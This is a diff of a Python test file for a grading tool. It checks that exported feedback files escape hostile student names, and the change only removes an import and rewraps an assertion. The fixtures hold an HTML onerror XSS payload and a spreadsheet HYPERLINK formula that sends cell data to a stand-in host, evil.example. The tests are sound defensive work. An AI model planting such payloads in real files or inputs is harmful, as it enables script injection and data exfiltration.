@@ -20,7 +20,6 @@ no raw HTML.
 from __future__ import annotations
 
 import csv
-import io
 import json
 import os
 import re
@@ -292,7 +291,8 @@ def test_feedback_md_holds_no_raw_html_or_escape(graded):
     html = (exports.student_folder(graded.out, NAMED["html"]) / "feedback.md").read_text()
     assert html.startswith("# Feedback for &lt;img src=x onerror=alert(1)&gt;\n")
     formula = (exports.student_folder(graded.out, NAMED["formula"]) / "feedback.md").read_text()
-    assert formula.startswith('# Feedback for =HYPERLINK(&quot;http:\\\\\\\\evil.example?&quot;&amp;A1,&quot;click&quot;)')
+    assert formula.startswith(
+        '# Feedback for =HYPERLINK(&quot;http:\\\\\\\\evil.example?&quot;&amp;A1,&quot;click&quot;)')
 
 
 def test_markdown_escapes_links_code_and_lines():
